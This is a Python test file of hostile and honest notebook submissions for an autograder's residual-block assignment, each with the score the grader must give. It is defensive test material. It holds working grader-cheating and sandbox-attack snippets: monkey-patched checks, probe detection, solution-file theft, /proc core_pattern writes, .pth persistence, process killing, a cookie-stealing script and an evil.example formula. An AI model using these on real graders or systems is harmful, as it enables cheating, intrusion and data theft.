"""A class of broken and hostile lesson-04 submissions, each with the score and status grading must give it.

Most attacks sit on a wrong BasicBlock (the ReLU before the addition, worth 2 points): whatever else the notebook
does, it must end with at most the points an honest student with that mistake gets (full marks less 2).
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from cases.residual_blocks import CASE, RELU_BEFORE_ADD
from test_autograde import make_submission

ASSIGNMENT = "05_residual_blocks"
FULL = float(CASE.full_marks)
HONEST = FULL - 2  # the ReLU-before-the-add mistake fails only 'basic-block-relu-after-add' (2 points)
WALL_SECONDS = 60


@dataclass(frozen=True)
class Submission:
    """What the student handed in, and what the batch must report for it."""

    build: Callable[[], str]  # the file's text
    score: float  # the score; for an attack (exact=False), the most it may earn: its mistake's honest score
    status: str  # the status, or several separated by "|" where either is right
    reason: str = ""  # a fragment the report's reason must contain
    exact: bool = True


def _text(notebook: nbformat.NotebookNode) -> str:
    return nbformat.writes(notebook)


def _solved(mistaken: bool = False) -> nbformat.NotebookNode:
    return make_submission(ASSIGNMENT, (RELU_BEFORE_ADD,) if mistaken else ())


def _cell(notebook: nbformat.NotebookNode, cell_id: str) -> nbformat.NotebookNode:
    return next(cell for cell in notebook.cells if cell.id == cell_id)


def _append(cell_id: str, code: str, mistaken: bool = False) -> Callable[[], str]:
    """A solved (or mistaken) notebook with extra code at the end of one answer cell."""
    def build() -> str:
        notebook = _solved(mistaken)
        _cell(notebook, cell_id).source += "\n" + code
        return _text(notebook)
    return build


def _edited_test_cell() -> str:
    notebook = _solved(mistaken=True)
    _cell(notebook, "basic-block-relu-after-add").source = "pass  # the test was in my way"
    return _text(notebook)


def _deleted_test_cell() -> str:
    notebook = _solved(mistaken=True)
    notebook.cells.remove(_cell(notebook, "basic-block-relu-after-add"))
    return _text(notebook)


def _duplicated_answer_cell() -> str:
    notebook = make_submission(ASSIGNMENT, (RELU_BEFORE_ADD,))
    wrong = _cell(notebook, "basic-block")
    right = copy.deepcopy(_cell(_solved(), "basic-block"))
    right.id = "basic-block-copy"
    notebook.cells.insert(notebook.cells.index(wrong) + 1, right)  # the later, correct copy is the one that runs
    return _text(notebook)


def _stripped(keep_ids: bool) -> nbformat.NotebookNode:
    """A Colab round trip: every cell's metadata gone; without ids the answers can only be placed by position."""
    notebook = _solved()
    for index, cell in enumerate(notebook.cells):
        cell.metadata = {}
        if not keep_ids:
            cell.id = f"colab-{index}"
    return notebook


def _stripped_and_moved() -> str:
    notebook = _stripped(keep_ids=False)
    answer = next(cell for cell in notebook.cells if "class BasicBlock" in cell.source)
    notebook.cells.insert(notebook.cells.index(answer) + 1, nbformat.v4.new_code_cell("print('my scratch cell')"))
    return _text(notebook)


def _malformed() -> str:
    return _text(_solved())[:5000]


def _replaced(cell_id: str, source: str) -> Callable[[], str]:
    """A solved notebook whose answer cell is written another way."""
    def build() -> str:
        notebook = _solved()
        _cell(notebook, cell_id).source = source
        return _text(notebook)
    return build


TORCHVISION_STYLE = """
from torchvision.models import resnet as tv


class BasicBlock(tv.BasicBlock):
    def __init__(self, in_channels, out_channels, stride=1):
        downsample = None
        if stride != 1 or in_channels != out_channels:
            downsample = nn.Sequential(tv.conv1x1(in_channels, out_channels, stride), nn.BatchNorm2d(out_channels))
        super().__init__(in_channels, out_channels, stride, downsample)
"""
TEXTBOOK_STYLE = """
import torch.nn.functional as F


class BasicBlock(nn.Module):
    def __init__(self, input_channels, num_channels, stride=1):
        super().__init__()
        self.conv1 = nn.Conv2d(input_channels, num_channels, kernel_size=3, padding=1, stride=stride, bias=False)
        self.conv2 = nn.Conv2d(num_channels, num_channels, kernel_size=3, padding=1, bias=False)
        self.conv3 = None
        if stride != 1 or input_channels != num_channels:
            self.conv3 = nn.Sequential(nn.Conv2d(input_channels, num_channels, kernel_size=1, stride=stride,
                                                 bias=False), nn.BatchNorm2d(num_channels))
        self.bn1 = nn.BatchNorm2d(num_channels)
        self.bn2 = nn.BatchNorm2d(num_channels)

    def forward(self, X):
        Y = F.relu(self.bn1(self.conv1(X)))
        Y = self.bn2(self.conv2(Y))
        if self.conv3:
            X = self.conv3(X)
        Y += X
        return F.relu(Y)
"""
SEED_STYLE = """
class BasicBlock(nn.Module):  # the article's ResidualBlock, its super().__init() typo fixed
    def __init__(self, in_channels, out_channels, stride=1):
        super(BasicBlock, self).__init__()
        self.left = nn.Sequential(
            nn.Conv2d(in_channels, out_channels, kernel_size=3, stride=stride, padding=1, bias=False),
            nn.BatchNorm2d(out_channels),
            nn.ReLU(inplace=True),
            nn.Conv2d(out_channels, out_channels, kernel_size=3, stride=1, padding=1, bias=False),
            nn.BatchNorm2d(out_channels),
        )
        self.shortcut = nn.Sequential()
        if stride != 1 or in_channels != out_channels:
            self.shortcut = nn.Sequential(
                nn.Conv2d(in_channels, out_channels, kernel_size=1, stride=stride, bias=False),
                nn.BatchNorm2d(out_channels),
            )

    def forward(self, x):
        out = self.left(x)
        out += self.shortcut(x)
        return torch.relu(out)
"""

# ---------------------------------------------------------------- attacks on the checks, from the student's cells
SWAP_CHECK_CODE = """
import residual_course.checks.report as _report
_report.run_properties.__code__ = (lambda subject, properties, only=None: None).__code__
"""
SWAP_TORCH_CODE = """
import torch.nn.functional as _F
_F.relu.__code__ = (lambda input, inplace=False: input).__code__  # the checks' relu(x) becomes x
"""
TENSOR_SUBCLASS = """
class _Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


_forward = BasicBlock.forward
BasicBlock.forward = lambda self, x: _forward(self, x).as_subclass(_Agreeable)
"""
LYING_PARAMETERS = """
_init = BasicBlock.__init__


def _init_with_extra(self, in_channels, out_channels, stride=1):
    _init(self, in_channels, out_channels, stride)
    self.extra = nn.Parameter(torch.zeros(out_channels))  # a stray parameter: the counts must see it


BasicBlock.__init__ = _init_with_extra
BasicBlock.parameters = lambda self, recurse=True: (p for name, p in self.named_parameters(recurse=recurse)
                                                    if not name.endswith("extra"))
"""
LYING_SHAPE = """
class _Sized(torch.Tensor):
    @property
    def shape(self):
        return torch.Size([*super().shape[:2], 4, 4]) if super().shape[-1] == 8 and self.is_strided else super().shape


_forward = BasicBlock.forward
BasicBlock.forward = lambda self, x: _forward(self, x).as_subclass(_Sized)
"""
RECOGNISES_ZERO_PROBE = """
_forward = BasicBlock.forward


def _forward_unless_probed(self, x):
    if all(bool((p == 0).all()) for p in self.parameters()):  # the checks zero every weight: act right then
        return torch.relu(x)
    return _forward(self, x)


BasicBlock.forward = _forward_unless_probed
"""
RECOGNISES_CALLER = """
import sys as _sys
_forward = BasicBlock.forward


def _forward_for_checks(self, x):
    caller = _sys._getframe(2)
    if "checks" in caller.f_code.co_filename:  # called by the course's checks: behave
        return torch.relu(self.bn2(self.conv2(self.relu(self.bn1(self.conv1(x))))) + self.shortcut(x))
    return _forward(self, x)


BasicBlock.forward = _forward_for_checks
"""
TRACE_HOOK = """
import sys as _sys
import types as _types

_identity_F = _types.SimpleNamespace(relu=lambda x, inplace=False: x)


def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "_expect_zero_branch_gives":
        frame.f_globals["F"] = _identity_F  # the check's relu(x) becomes x, so a block without it "passes"
    return None


_sys.settrace(_tracer)
"""
INPUT_TRANSFORMER = """
get_ipython().input_transformers_post.append(  # every later cell is rewritten before it runs
    lambda lines: [line.replace("check_basic_block(", "print(").replace("assert ", "assert True or ")
                   for line in lines])
"""
PATCHES_CHECK_INTERNALS = """
import residual_course.checks.residual_blocks as _blocks
_blocks._expect_zero_branch_gives = lambda *args, **kwargs: None
"""
SEARCHES_THE_GRADER = """
import gc as _gc
for _thing in _gc.get_objects():
    if isinstance(_thing, dict) and "verdicts" in _thing:
        _thing["verdicts"] = {key: None for key in _thing["verdicts"]}
"""
READS_OTHER_SOLUTIONS = """
import pathlib as _pathlib
_found = ""
for _top in ("/tmp", "/root", "/home", "/work", "/srv", "/opt", "/var", "/mnt"):
    try:
        for _path in _pathlib.Path(_top).rglob("05_residual_blocks*.ipynb"):
            _text = _path.read_text(errors="ignore")
            if "BEGIN SOLUTION" in _text:
                _found = _text
                break
    except OSError:
        pass
    if _found:
        break
if _found:
    import json as _json
    _source = next("".join(c["source"]) for c in _json.loads(_found)["cells"]
                   if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "basic-block")
    exec(_source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
"""
WRITES_KERNEL_SETTINGS = """
for _path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/mm/transparent_hugepage/enabled"):
    try:
        open(_path, "w").write("|/tmp/owned %p")
    except OSError as _error:
        print("could not write", _path, _error)
"""
LEAVES_SHARED_MEMORY = """
import ctypes as _ctypes
from multiprocessing import shared_memory as _shm
_segment = _shm.SharedMemory(name="residual-course-leftover", create=True, size=1 << 20)
_libc = _ctypes.CDLL(None)
_libc.shmget(0x5EED, 1 << 20, 0o1666)  # IPC_CREAT | 0666: a System V segment that outlives its creator
"""
FLOODS_ONE_LINE = "import sys\nsys.stdout.write('x' * 200_000_000)\nsys.stdout.flush()"
FILLS_THE_DISK = """
import os as _os
for _folder in ("/tmp", _os.path.expanduser("~"), "."):
    for _index in range(3):
        try:
            with open(_os.path.join(_folder, f"ballast-{_index}"), "wb") as _handle:
                for _ in range(800):
                    _handle.write(b"x" * 2**20)
        except OSError as _error:
            print("stopped writing:", _error)
            break
"""
ORPHANS_AND_KILLS_PARENT = """
import os as _os
import signal as _signal
import time as _time
if _os.fork() == 0:  # a grandchild that holds every pipe it inherited and never exits
    if _os.fork() == 0:
        _os.setsid()
        while True:
            _time.sleep(1)
    _os._exit(0)
try:
    if _os.getppid() > 1:
        _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError as _error:
    print("could not kill the parent:", _error)
"""
PRINTS_HIDDEN_TESTS = """
get_ipython().events.register("pre_run_cell", lambda info: print("LEAKED:", info.raw_cell))
"""


SWALLOW_INTERRUPT = """
import time
while True:
    try:
        time.sleep(1)
    except KeyboardInterrupt:
        pass
"""

PTH_FILE = "zz_submission.pth"
WRITE_A_PTH_FILE = f"""
import pathlib, site
for folder in site.getsitepackages():  # a .pth file there would run code in every later Python, the grader's too
    try:
        pathlib.Path(folder, "{PTH_FILE}").write_text("import os")
    except OSError as error:
        print("could not write:", error)
"""

# ---------------------------------------------------------------- grading v3: probes, graphs, sandboxes, strings
# Each sits on the wrong block (the ReLU before the addition) unless it says otherwise.
CORRECT_FORWARD = "torch.relu(self.bn2(self.conv2(self.relu(self.bn1(self.conv1(x))))) + self.shortcut(x))"
GATES_ON_ZERO_WEIGHTS = """
_forward = BasicBlock.forward


def _gated(self, x):  # a graph made of allowed-looking operations that answers the all-zero probe right
    zero = torch.stack([(p == 0).all() for p in self.parameters()]).all()
    return torch.where(zero, torch.relu(self.shortcut(x)), _forward(self, x))


BasicBlock.forward = _gated
"""
KNOWS_THE_OLD_SEED = f"""
_forward = BasicBlock.forward


def _seeded(self, x):  # torch.randn under seed 0 starts with 1.5410: the old probes' first value
    probe = (x.flatten()[0] - 1.5410).abs() < 1e-3
    return torch.where(probe, {CORRECT_FORWARD}, _forward(self, x))


BasicBlock.forward = _seeded
"""
KNOWS_THE_PROBE_SHAPE = f"""
_forward = BasicBlock.forward


def _shaped(self, x):  # the old probes: a batch of 4 at 8x8
    if x.shape[0] == 4 and x.shape[-1] == 8:
        return {CORRECT_FORWARD}
    return _forward(self, x)


BasicBlock.forward = _shaped
"""
RIGHT_IN_EVAL_ONLY = f"""
_forward = BasicBlock.forward


def _eval_only(self, x):  # several probes looked in eval() only
    return _forward(self, x) if self.training else {CORRECT_FORWARD}


BasicBlock.forward = _eval_only
"""
WRITES_THE_PROBE_INPUT = """
_forward = BasicBlock.forward


def _writes(self, x):  # the check compares the output with relu(its input): make its input say so
    out = _forward(self, x)
    x.copy_(out)
    return torch.relu(out)


BasicBlock.forward = _writes
"""
AFFINE_NORMS = """
class _Affine(nn.BatchNorm2d):  # isinstance says BatchNorm2d; at initialisation, in eval(), it agrees with one
    def forward(self, x):
        return x * self.weight[None, :, None, None] + self.bias[None, :, None, None]


_init = BasicBlock.__init__


def _with_affine(self, in_channels, out_channels, stride=1):
    _init(self, in_channels, out_channels, stride)
    self.bn2 = _Affine(out_channels)
    if isinstance(self.shortcut, nn.Sequential):
        self.shortcut[1] = _Affine(out_channels)


BasicBlock.__init__ = _with_affine
"""
RELABELLED_TORCHVISION = TORCHVISION_STYLE + """
tv.BasicBlock.__module__ = "__main__"  # 'where it comes from', as __module__ tells it
BasicBlock.__module__ = "__main__"
"""
SILENCE_THE_KERNEL = "getattr(get_ipython(), 'set_' + 'custom_exc')((BaseException,), lambda *a, **k: None)\n"
TWO_FACED = f"""
_forward = BasicBlock.forward


def _two_faced(self, x):  # right while torch.export traces it, wrong when the notebook runs it
    if torch.compiler.is_exporting():
        return {CORRECT_FORWARD}
    return _forward(self, x)


BasicBlock.forward = _two_faced
{SILENCE_THE_KERNEL}"""
ANSWERS_WITH_ANOTHER_GRAPH = f"""
import gc as _gc

try:  # in the trusted decision's student process: answer every export with a right block's graph
    _side = next(o for o in _gc.get_objects() if type(o).__name__ == "StudentSide")

    class _Right(nn.Module):
        def __init__(self, reference):
            super().__init__()
            self.__dict__.update({{k: v for k, v in vars(reference).items() if k != "forward"}})

        def forward(self, x):
            return {CORRECT_FORWARD}

    _export = _side._export

    def _fake_export(message):
        _side.objects[message.target] = _Right(_side.objects[message.target])
        return _export(message)

    _side._export = _fake_export
except StopIteration:
    pass
{SILENCE_THE_KERNEL}"""
KEYRING_HANDOFF = """
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_hidden = []
get_ipython().events.register("pre_run_cell", lambda info: _hidden.append(info.raw_cell))  # hidden tests, in the kernel
_key = _libc.syscall(248, b"user", b"hidden", b"x", 1, -4)  # add_key to the uid's keyring, for another process
_found = _libc.syscall(250, 10, 0, 0, 0)  # keyctl: read what another process left
print("keyring:", _key, _found, _ctypes.get_errno())
"""
HOLDS_THE_PROCESS_LIMIT = """
import subprocess as _subprocess

_held = []
for _ in range(2000):  # a uid's process limit is shared by every process of that uid: hold all of it
    try:
        _held.append(_subprocess.Popen(["sleep", "30"]))
    except OSError:
        break
print("processes held:", len(_held))
"""
NAMES_THAT_ATTACK = """
_name = '=HYPERLINK("http://evil.example/?"&A1,"open")\x1b]0;owned\x07\x1b[2J<img src=x onerror=alert(1)>'
_forward = BasicBlock.forward


def _named(self, x):  # what it returns names itself in every message that reports it
    return type(_name, (), {})()


BasicBlock.forward = _named
"""
MARKDOWN_WITH_SCRIPT = "<script>fetch('/api/contents?token=' + document.cookie)</script>\n\nMy notes <img src=x " \
                       "onerror=alert(1)>"


def _with_markdown() -> str:
    notebook = _solved(mistaken=True)
    answer = _cell(notebook, "basic-block")
    notebook.cells.insert(notebook.cells.index(answer) + 1, nbformat.v4.new_markdown_cell(MARKDOWN_WITH_SCRIPT))
    return _text(notebook)


# honest blocks in unusual styles: every one keeps full marks
FUNCTIONAL_STYLE = """
import torch.nn.functional as F


class BasicBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.stride = stride
        self.w1 = nn.Parameter(nn.init.kaiming_normal_(torch.empty(out_channels, in_channels, 3, 3)))
        self.w2 = nn.Parameter(nn.init.kaiming_normal_(torch.empty(out_channels, out_channels, 3, 3)))
        norms = 3 if stride != 1 or in_channels != out_channels else 2
        self.gammas = nn.ParameterList([nn.Parameter(torch.ones(out_channels)) for _ in range(norms)])
        self.betas = nn.ParameterList([nn.Parameter(torch.zeros(out_channels)) for _ in range(norms)])
        for index in range(norms):
            self.register_buffer(f"mean{index}", torch.zeros(out_channels))
            self.register_buffer(f"var{index}", torch.ones(out_channels))
        self.projection = None
        if norms == 3:
            self.projection = nn.Parameter(nn.init.kaiming_normal_(torch.empty(out_channels, in_channels, 1, 1)))

    def norm(self, x, index):
        return F.batch_norm(x, getattr(self, f"mean{index}"), getattr(self, f"var{index}"), self.gammas[index],
                            self.betas[index], self.training)

    def forward(self, x):
        out = F.relu(self.norm(F.conv2d(x, self.w1, stride=self.stride, padding=1), 0))
        out = self.norm(F.conv2d(out, self.w2, padding="same"), 1)
        shortcut = x if self.projection is None else self.norm(F.conv2d(x, self.projection, stride=self.stride), 2)
        return F.relu(out + shortcut)
"""
SAME_PADDING_STYLE = """
class BasicBlock(nn.Module):  # padding="same", ReLU as clamp(min=0), the shortcut added in place
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.branch = nn.Sequential(
            nn.Conv2d(in_channels, out_channels, 3, stride=stride, padding=1, bias=False), nn.BatchNorm2d(out_channels),
            nn.ReLU(inplace=True), nn.Conv2d(out_channels, out_channels, 3, padding="same", bias=False),
            nn.BatchNorm2d(out_channels))
        self.shortcut = nn.Sequential()
        if stride != 1 or in_channels != out_channels:
            self.shortcut = nn.Sequential(nn.Conv2d(in_channels, out_channels, 1, stride=stride, bias=False),
                                          nn.BatchNorm2d(out_channels))

    def forward(self, x):
        out = self.branch(x)
        out += self.shortcut(x)
        return torch.clamp(out, min=0)
"""
TORCHVISION_LAYOUT = """
class BasicBlock(nn.Module):  # torchvision's layout and names, written out: downsample, identity, out += identity
    expansion = 1

    def __init__(self, inplanes, planes, stride=1):
        super().__init__()
        self.conv1 = nn.Conv2d(inplanes, planes, kernel_size=3, stride=stride, padding=1, bias=False)
        self.bn1 = nn.BatchNorm2d(planes)
        self.relu = nn.ReLU(inplace=True)
        self.conv2 = nn.Conv2d(planes, planes, kernel_size=3, stride=1, padding=1, bias=False)
        self.bn2 = nn.BatchNorm2d(planes)
        self.downsample = None
        if stride != 1 or inplanes != planes:
            self.downsample = nn.Sequential(nn.Conv2d(inplanes, planes, kernel_size=1, stride=stride, bias=False),
                                            nn.BatchNorm2d(planes))
        self.stride = stride

    def forward(self, x):
        identity = x
        out = self.conv1(x)
        out = self.bn1(out)
        out = self.relu(out)
        out = self.conv2(out)
        out = self.bn2(out)
        if self.downsample is not None:
            identity = self.downsample(x)
        out += identity
        out = self.relu(out)
        return out
"""
NO_OPS_AND_MODULE_DICT = """
class BasicBlock(nn.Module):  # a ModuleDict, harmless extras (Identity, Dropout(0), contiguous, * 1.0), shortcut first
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.layers = nn.ModuleDict({
            "first": nn.Conv2d(in_channels, out_channels, 3, stride, 1, bias=False),
            "first_norm": nn.BatchNorm2d(out_channels),
            "second": nn.Conv2d(out_channels, out_channels, 3, 1, 1, bias=False),
            "second_norm": nn.BatchNorm2d(out_channels),
            "keep": nn.Identity(),
            "drop": nn.Dropout(0.0),
        })
        self.shortcut = nn.Identity()
        if stride != 1 or in_channels != out_channels:
            self.shortcut = nn.Sequential(nn.Conv2d(in_channels, out_channels, 1, stride, bias=False),
                                          nn.BatchNorm2d(out_channels))

    def forward(self, x):
        shortcut = self.shortcut(x.contiguous())
        out = torch.relu(self.layers["first_norm"](self.layers["first"](x)))
        out = self.layers["drop"](self.layers["keep"](out))
        out = self.layers["second_norm"](self.layers["second"](out)) * 1.0
        return torch.relu(out + shortcut)
"""

CORPUS: dict[str, Submission] = {
    "solved": Submission(lambda: _text(_solved()), FULL, "graded"),
    "untouched": Submission(lambda: _text(make_submission(ASSIGNMENT, None)), 0, "graded"),
    "mistaken": Submission(lambda: _text(_solved(mistaken=True)), HONEST, "graded"),
    # verdicts faked from inside the student's cells: the trusted decision grades what the code computes
    "patches-torch": Submission(_append("basic-block", "torch.allclose = lambda *a, **k: True\n"
                                        "torch.equal = lambda *a, **k: True", mistaken=True),
                                HONEST, "graded|tampered", exact=False),
    "patches-builtins-numpy": Submission(_append("basic-block", "import builtins, numpy\n"
                                                 "builtins.all = lambda *a: True\n"
                                                 "numpy.allclose = lambda *a, **k: True", mistaken=True),
                                         HONEST, "needs manual grading", "could not be exported", exact=False),
    "patches-checks": Submission(_append("basic-block", "import residual_course.checks.report as report\n"
                                         "report.run_properties = lambda *a, **k: None\n"
                                         "check_basic_block = lambda *a, **k: None", mistaken=True),
                                 HONEST, "graded|tampered", exact=False),
    "swallows-exceptions": Submission(_append("basic-block", "get_ipython().set_custom_exc((BaseException,), "
                                              "lambda *a, **k: None)", mistaken=True),
                                      HONEST, "graded|tampered", exact=False),
    "changes-environment": Submission(_append("basic-block", "import os\n"
                                              "os.environ['RESIDUAL_COURSE_DATA'] = '/tmp/fake-data'",
                                              mistaken=True), HONEST, "graded"),
    "writes-course-files": Submission(_append("basic-block", WRITE_A_PTH_FILE, mistaken=True), HONEST, "graded"),
    # graded cells edited, deleted or duplicated
    "edits-test-cell": Submission(_edited_test_cell, HONEST, "graded", "was edited"),
    "deletes-test-cell": Submission(_deleted_test_cell, HONEST, "graded", "restored from the released notebook"),
    "duplicates-answer-cell": Submission(_duplicated_answer_cell, FULL, "graded", "appeared more than once"),
    # lost metadata: re-attached when unambiguous, otherwise a person decides
    "colab-round-trip": Submission(lambda: _text(_stripped(keep_ids=True)), FULL, "graded", "re-attached"),
    "colab-round-trip-ambiguous": Submission(_stripped_and_moved, 0, "needs manual grading", "cannot be told apart"),
    # runs that must end without stopping the batch
    "endless-loop": Submission(_append("basic-block", SWALLOW_INTERRUPT), 0, "timeout", "limit for a whole notebook"),
    "out-of-memory": Submission(_append("preact-block", "hog = [torch.ones(2**28) for _ in range(64)]"),
                                FULL, "out of memory", "ran out of memory"),
    "exits-the-kernel": Submission(_append("basic-block", "import os\nos._exit(0)"), 0, "crashed", "kernel died"),
    "huge-output": Submission(_append("basic-block", "print('spam ' * 20_000_000)"), FULL, "graded"),
    "malformed-json": Submission(_malformed, 0, "malformed", "not valid JSON"),
    # torchvision's block behind the course's interface is a drop-in: graded, and its four BasicBlock cells
    # (8 points) refused by the ready-made rule
    "torchvision-style": Submission(_replaced("basic-block", TORCHVISION_STYLE), FULL - 8, "graded"),
    # honest blocks in other styles keep every point
    "textbook-style": Submission(_replaced("basic-block", TEXTBOOK_STYLE), FULL, "graded"),
    "seed-style": Submission(_replaced("basic-block", SEED_STYLE), FULL, "graded"),
    # attacks that an in-process watch cannot see: the trusted decision never runs the student's code
    "swaps-check-code": Submission(_append("basic-block", SWAP_CHECK_CODE, mistaken=True), HONEST,
                                   "graded|tampered", exact=False),
    "swaps-torch-code": Submission(_append("basic-block", SWAP_TORCH_CODE, mistaken=True), HONEST,
                                   "graded|tampered", exact=False),
    "tensor-subclass": Submission(_append("basic-block", TENSOR_SUBCLASS, mistaken=True), HONEST,
                                  "needs manual grading", "could not be exported", exact=False),
    # the checks count named_parameters(), in the kernel too: the lie fools neither side
    "lies-about-parameters": Submission(_append("basic-block", LYING_PARAMETERS), FULL - 5, "graded|tampered"),
    "lies-about-shape": Submission(_append("basic-block", LYING_SHAPE, mistaken=True), HONEST,
                                   "needs manual grading", "could not be exported", exact=False),
    "recognises-zero-probe": Submission(_append("basic-block", RECOGNISES_ZERO_PROBE, mistaken=True), HONEST,
                                        "needs manual grading", "could not be exported", exact=False),
    "recognises-caller": Submission(_append("basic-block", RECOGNISES_CALLER, mistaken=True), HONEST,
                                    "graded|tampered", exact=False),
    "trace-hook": Submission(_append("basic-block", TRACE_HOOK, mistaken=True), HONEST, "graded|tampered",
                             exact=False),
    "input-transformer": Submission(_append("basic-block", INPUT_TRANSFORMER, mistaken=True), HONEST,
                                    "graded|tampered", exact=False),
    "patches-check-internals": Submission(_append("basic-block", PATCHES_CHECK_INTERNALS, mistaken=True), HONEST,
                                          "graded|tampered", exact=False),
    "searches-the-grader": Submission(_append("basic-block", SEARCHES_THE_GRADER, mistaken=True), HONEST, "graded"),
    "reads-other-solutions": Submission(_append("basic-block", READS_OTHER_SOLUTIONS, mistaken=True), HONEST,
                                        "graded"),
    # attacks on the sandbox itself: nothing escapes, everything ends, every row is written
    "writes-kernel-settings": Submission(_append("basic-block", WRITES_KERNEL_SETTINGS, mistaken=True), HONEST,
                                         "graded"),
    "leaves-shared-memory": Submission(_append("basic-block", LEAVES_SHARED_MEMORY, mistaken=True), HONEST,
                                       "graded"),
    "floods-one-line": Submission(_append("basic-block", FLOODS_ONE_LINE, mistaken=True), HONEST, "graded"),
    "fills-the-disk": Submission(_append("basic-block", FILLS_THE_DISK, mistaken=True), HONEST, "graded"),
    "orphans-and-kills-parent": Submission(_append("basic-block", ORPHANS_AND_KILLS_PARENT, mistaken=True), HONEST,
                                           "graded"),
    "prints-hidden-tests": Submission(_append("basic-block", PRINTS_HIDDEN_TESTS, mistaken=True), HONEST, "graded"),
    # grading v3: probes a graph could recognise; properties seen at special weights or in one mode only
    "gates-on-zero-weights": Submission(_append("basic-block", GATES_ON_ZERO_WEIGHTS, mistaken=True), HONEST,
                                        "needs manual grading", "could not be graded automatically", exact=False),
    "knows-the-old-seed": Submission(_append("basic-block", KNOWS_THE_OLD_SEED, mistaken=True), HONEST,
                                     "needs manual grading", "could not be graded automatically", exact=False),
    "knows-the-probe-shape": Submission(_append("basic-block", KNOWS_THE_PROBE_SHAPE, mistaken=True), HONEST,
                                        "graded", exact=False),
    "right-in-eval-only": Submission(_append("basic-block", RIGHT_IN_EVAL_ONLY, mistaken=True), HONEST, "graded",
                                     exact=False),
    "writes-the-probe-input": Submission(_append("basic-block", WRITES_THE_PROBE_INPUT, mistaken=True), HONEST,
                                         "needs manual grading", "could not be graded automatically", exact=False),
    "affine-norms": Submission(_append("basic-block", AFFINE_NORMS), HONEST, "needs manual grading|graded",
                               exact=False),
    "relabelled-torchvision": Submission(_replaced("basic-block", RELABELLED_TORCHVISION), FULL - 8, "graded"),
    # the graph the trusted side grades is the module: a two-faced module, a faked export
    "two-faced-and-silenced": Submission(_append("basic-block", TWO_FACED, mistaken=True), HONEST, "tampered",
                                         "computes something else when it runs", exact=False),
    "answers-with-another-graph": Submission(_append("basic-block", ANSWERS_WITH_ANOTHER_GRAPH, mistaken=True),
                                             HONEST, "tampered", "rewrote the grader's own code", exact=False),
    # sandboxes that share nothing; strings that land escaped
    "keyring-handoff": Submission(_append("basic-block", KEYRING_HANDOFF, mistaken=True), HONEST, "graded"),
    "holds-the-process-limit": Submission(_append("basic-block", HOLDS_THE_PROCESS_LIMIT, mistaken=True), HONEST,
                                          "graded", exact=False),
    "names-that-attack": Submission(_append("basic-block", NAMES_THAT_ATTACK), FULL - 8, "needs manual grading",
                                    "could not be exported", exact=False),
    "markdown-with-script": Submission(_with_markdown, HONEST, "graded"),
    # honest blocks in unusual styles keep every point
    "functional-style": Submission(_replaced("basic-block", FUNCTIONAL_STYLE), FULL, "graded"),
    "same-padding-style": Submission(_replaced("basic-block", SAME_PADDING_STYLE), FULL, "graded"),
    "torchvision-layout": Submission(_replaced("basic-block", TORCHVISION_LAYOUT), FULL, "graded"),
    "no-ops-and-module-dict": Submission(_replaced("basic-block", NO_OPS_AND_MODULE_DICT), FULL, "graded"),
}
# What each submission's review flag must mention ("" for none): flags.py names suspicious constructs.
REVIEW = {"swaps-check-code": "code-object assignment", "swaps-torch-code": "code-object assignment",
          "tensor-subclass": "tensor dispatch", "recognises-caller": "frame introspection",
          "trace-hook": "a trace hook", "input-transformer": "IPython's input transformers",
          "searches-the-grader": "the garbage collector", "reads-other-solutions": "exec()",
          "leaves-shared-memory": "ctypes", "prints-hidden-tests": "IPython's event hooks",
          "swallows-exceptions": "IPython's exception handler", "patches-torch": "assignment to torch.allclose",
          "patches-checks": "assignment to report.run_properties",
          "patches-builtins-numpy": "assignment to builtins.all",
          "patches-check-internals": "assignment to _blocks._expect_zero_branch_gives",
          "two-faced-and-silenced": "torch.export's tracing flag",
          "answers-with-another-graph": "the garbage collector",
          "keyring-handoff": "ctypes", "relabelled-torchvision": "a class relabelled"}
